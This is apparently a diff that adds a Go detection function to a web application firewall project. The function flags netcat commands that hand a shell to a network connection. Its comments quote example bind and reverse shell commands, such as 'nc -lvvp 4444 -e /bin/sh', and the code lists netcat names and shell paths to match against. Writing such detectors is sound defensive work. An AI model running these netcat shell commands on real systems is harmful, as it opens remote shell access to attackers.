@@ -1,0 +1,84 @@
+package shell
+
+import (
+	"strings"
+
+	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
+)
+
+// netcatNames are the names netcat goes by.
+var netcatNames = [...]string{"netcat", "ncat", "nc"}
+
+// NetcatShell finds netcat set up to hand a program (a shell) to whoever
+// connects or is connected to, whatever flags stand between: nc -lvvp
+// 4444 -e /bin/sh, ncat -nv 10.0.0.1 9001 -c bash, nc x 1 -e cmd.exe. s is
+// lower-cased. It returns the offset of the netcat word, or -1.
+//
+// The phrase list holds "nc -e" as written; this reads the command's
+// arguments up to the end of its command (a separator), for a program
+// flag (-e, -c, or a cluster of flags ending in one: -nlvpe) followed by
+// an argument, or a shell's absolute path among them.
+func NetcatShell(s string) int {
+	for _, name := range netcatNames {
+		read := 0 // where the last arguments read ended: an occurrence before it was among them
+		for off := 0; off < len(s); {
+			i := strings.Index(s[off:], name)
+			if i < 0 {
+				break
+			}
+			i += off
+			off = i + len(name)
+			if i < read || i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '.' || s[i-1] == '-') || off >= len(s) || s[off] != ' ' && s[off] != '\t' {
+				continue
+			}
+			var runs bool
+			if runs, read = netcatRunsProgram(s, off); runs {
+				return i
+			}
+		}
+	}
+	return -1
+}
+
+// netcatRunsProgram reads netcat's arguments from s[j:] to the end of its
+// command (at most 160 bytes), and returns where it stopped.
+func netcatRunsProgram(s string, j int) (bool, int) {
+	end := min(len(s), j+160)
+	if k := strings.IndexAny(s[j:end], ";|&\n`"); k >= 0 {
+		end = j + k
+	}
+	prevFlag := false // the argument before was a program flag
+	for k := j; k < end; {
+		for k < end && (s[k] == ' ' || s[k] == '\t') {
+			k++
+		}
+		e := k
+		for e < end && s[e] != ' ' && s[e] != '\t' {
+			e++
+		}
+		if e == k {
+			break
+		}
+		a := s[k:e]
+		if prevFlag {
+			return true, end
+		}
+		switch a {
+		case "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "cmd.exe":
+			return true, end
+		}
+		prevFlag = len(a) >= 2 && a[0] == '-' && (a[len(a)-1] == 'e' || a[len(a)-1] == 'c') && allLetters(a[1:])
+		k = e
+	}
+	return false, end
+}
+
+// allLetters reports whether s is letters only: a cluster of short flags.
+func allLetters(s string) bool {
+	for i := 0; i < len(s); i++ {
+		if !lex.IsAlpha(s[i]) {
+			return false
+		}
+	}
+	return s != ""
+}
